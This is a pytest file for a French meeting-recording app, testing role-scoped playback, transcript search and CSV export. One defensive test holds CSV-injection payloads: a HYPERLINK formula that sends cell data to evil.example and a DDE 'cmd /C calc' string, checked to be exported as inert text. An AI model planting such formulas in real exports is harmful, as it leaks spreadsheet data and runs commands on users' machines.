"""Recordings and transcript-search pages through AppTest, per role."""

from __future__ import annotations

import pytest

from tests.pipeline.stubs import StubTranscriber
from tests.test_pages import signed_in, texts
from visio_core.adapters.exports.docx_export import transcript_docx
from visio_core.domain.model import TranscriptionStatus
from visio_core.domain.srt import Cue
from visio_core.entrypoints.bootstrap import set_context
from visio_core.services.jobs import JobRunner, TranscriptionJobs


class Scripted(StubTranscriber):
    def transcribe(self, media_path, *, language, on_progress=None, vocabulary=()):
        return [Cue(1, 0.0, 2.0, "Bonjour et bienvenue"), Cue(2, 2.0, 4.0, "<b>Le budget</b> est validé")]


@pytest.fixture
def world(ctx, people, speech_mp4):
    from tests.conftest import at

    set_context(ctx)
    m = ctx.meetings
    mine = m.create_meeting(people.op1, client_id=people.client_a.id, title="Revue A", scheduled_at=at())
    other = m.create_meeting(people.op1, client_id=people.client_b.id, title="Revue B", scheduled_at=at(1))
    recordings = {}
    for meeting in (mine, other):
        m.start_meeting(people.op1, meeting.id)
        m.end_meeting(people.op1, meeting.id)
        recordings[meeting.title] = ctx.ingest.ingest_file(meeting.id, speech_mp4, source_recording_id="s")[0]
    JobRunner(
        [TranscriptionJobs(ctx.system_recordings, ctx.storage, lambda: Scripted(), ctx.index, document=transcript_docx)]
    ).run_until_idle()
    yield {"mine": mine, "other": other, "rec": recordings["Revue A"], "rec_b": recordings["Revue B"]}
    set_context(None)


def open_recordings(identity, **query):
    test = signed_in(identity, **query)
    test.switch_page("pages/recordings.py")
    test.run()
    assert not test.exception, test.exception
    return test


def test_client_plays_his_recording_with_transcript(world, people):
    test = open_recordings(people.client_a, meeting=str(world["mine"].id), recording=str(world["rec"].id), t="2.5")
    component = test.get("bidi_component")
    assert len(component) == 1
    raw = str(component[0].proto)
    assert "Bonjour et bienvenue" in raw and "/files/recordings/" in raw and "2.5" in raw
    labels = [b.proto.label for b in test.get("link_button")]
    assert labels == ["Télécharger la vidéo", "Sous-titres (SRT)", "Sous-titres (WebVTT)", "Texte (TXT)", "Word (DOCX)"]
    urls = [b.proto.url for b in test.get("link_button")]
    assert "download=" in urls[0] and urls[1].startswith("/files/transcripts/")
    assert [u.split("?")[0].rsplit(".", 1)[1] for u in urls[1:]] == ["srt", "vtt", "txt", "docx"]
    assert "Terminée" in test.dataframe[0].value.to_string()
    assert "Relancer" not in str(test.button)  # clients change nothing


@pytest.mark.parametrize("offset", ["inf", "1e309", "-inf", "nan", "NaN", "abc"])
def test_a_player_offset_that_is_not_a_number_is_refused(world, people, offset):
    test = open_recordings(people.client_a, meeting=str(world["mine"].id), recording=str(world["rec"].id), t=offset)
    assert any("Position de lecture invalide" in str(e.value) for e in test.error)
    (player,) = test.get("bidi_component")
    raw = str(player.proto)
    assert "Infinity" not in raw and "NaN" not in raw and "Bonjour et bienvenue" in raw  # valid JSON, from 0


def test_other_client_gets_not_found(world, people):
    test = open_recordings(people.client_a, meeting=str(world["other"].id))
    assert "Meeting introuvable." in texts(test)
    assert not test.get("bidi_component")


def test_malformed_ids_are_reported(world, people):
    test = open_recordings(people.client_a, meeting="nope")
    assert "Identifiant invalide" in texts(test)
    test = open_recordings(people.client_a, meeting=str(world["mine"].id), recording="nope")
    told = [e.value for e in test.error if "Identifiant invalide" in e.value]
    assert told == ["Identifiant invalide dans l'adresse (« recording ») : le lien est abîmé, il a été ignoré."]


def test_failed_transcription_shows_reason_and_operator_retries(ctx, world, people):
    rec = world["rec"]
    ctx.system_recordings.requeue(rec.id, rec.created_at, only_if=(TranscriptionStatus.COMPLETED,))
    job = ctx.system_recordings.claim("w", rec.created_at, __import__("datetime").timedelta(minutes=1))
    ctx.system_recordings.fail(job.id, "w", "modèle introuvable", rec.created_at)
    test = open_recordings(people.op1, meeting=str(world["mine"].id))
    assert "La transcription a échoué : modèle introuvable" in texts(test)
    test.button(key=f"retry-{rec.id}").click()
    test.run()
    assert ctx.system_recordings.get(rec.id).transcription_status is TranscriptionStatus.PENDING


def test_transcript_search_is_scoped_and_exports_csv(world, people):
    test = signed_in(people.client_a)
    test.switch_page("pages/transcripts.py")
    test.run()
    test.text_input(key="ts_query").input("budget")
    test.run()
    assert not test.exception
    assert "1 passage(s) trouvé(s)." in texts(test)
    shown = [e.value for e in test.get("text")]
    assert shown == ["<b>Le budget</b> est validé"]  # markup shown as text
    button = test.get("download_button")[0]
    assert button

    operator = signed_in(people.op1)
    operator.switch_page("pages/transcripts.py")
    operator.run()
    operator.text_input(key="ts_query").input("budg")
    operator.run()
    assert "2 passage(s) trouvé(s)." in texts(operator)


def test_search_service_export_content(ctx, world, people):
    hits = ctx.recordings.search_transcripts(people.op1, "bienvenue")
    assert {h.meeting_title for h in hits} == {"Revue A", "Revue B"}
    assert (
        ctx.recordings.search_transcripts(people.op1, "bienvenue", client_id=people.client_b.id)[0].meeting_title
        == "Revue B"
    )
    assert ctx.recordings.search_transcripts(people.op2, "bienvenue") == []
    # FTS5 syntax in user input is inert: it is searched as words, never parsed as operators
    assert isinstance(ctx.recordings.search_transcripts(people.client_b, 'bienvenue OR "budget" NEAR( *'), list)
    assert ctx.recordings.search_transcripts(people.client_b, "bienvenue")[0].meeting_title == "Revue B"


def test_csv_export_content(ctx, world, people):
    import csv
    import io

    from visio_core.ui.transcripts_view import export_csv, results_table

    hits = ctx.recordings.search_transcripts(people.op1, "budget")
    rows = list(csv.reader(io.StringIO(export_csv(results_table(hits)).decode("utf-8-sig"))))
    assert rows[0] == ["Meeting", "Date", "Temps", "Langue", "Intervenant", "Texte"]
    assert sorted(r[0] for r in rows[1:]) == ["Revue A", "Revue B"]
    assert all(r[2] == "00:00:02" and r[3] == "fr" and r[5] == "<b>Le budget</b> est validé" for r in rows[1:])


def test_csv_export_keeps_formulas_as_text(ctx, world, people):
    """Titles and speech that look like spreadsheet formulas open as text, not as formulas."""
    import csv
    import dataclasses
    import io

    from visio_core.ui.transcripts_view import export_csv, results_table

    hit = ctx.recordings.search_transcripts(people.op1, "budget")[0]
    hostile = [
        dataclasses.replace(
            hit, meeting_title='=HYPERLINK("https://evil.example/?"&A1;"clic")', text="=cmd|' /C calc'!A0"
        ),
        dataclasses.replace(hit, meeting_title="+SUM(1;2)", text="@SUM(A1)"),
        dataclasses.replace(hit, meeting_title="-2+3", text="\tTAB"),
    ]
    rows = list(csv.reader(io.StringIO(export_csv(results_table(hostile)).decode("utf-8-sig"))))[1:]
    assert [r[0] for r in rows] == ['\'=HYPERLINK("https://evil.example/?"&A1;"clic")', "'+SUM(1;2)", "'-2+3"]
    assert [r[5] for r in rows] == ["'=cmd|' /C calc'!A0", "'@SUM(A1)", "'\tTAB"]


def test_another_clients_recording_id_in_the_url_plays_nothing_of_his(world, people):
    test = open_recordings(people.client_a, meeting=str(world["mine"].id), recording=str(world["rec_b"].id))
    raw = str(test.get("bidi_component")[0].proto)
    assert str(world["rec_b"].id) not in raw and str(world["rec"].id) in raw


def test_jobs_in_progress_are_the_operators_own(ctx, world, people):
    rec = world["rec"]
    ctx.system_recordings.requeue(rec.id, rec.created_at, only_if=(TranscriptionStatus.COMPLETED,))
    jobs = ctx.recordings.jobs_in_progress(people.op1)
    assert [(r.id, m.title) for r, m in jobs] == [(rec.id, "Revue A")]
    assert ctx.recordings.jobs_in_progress(people.op2) == []
    assert ctx.recordings.jobs_in_progress(people.client_a) == []  # clients change nothing
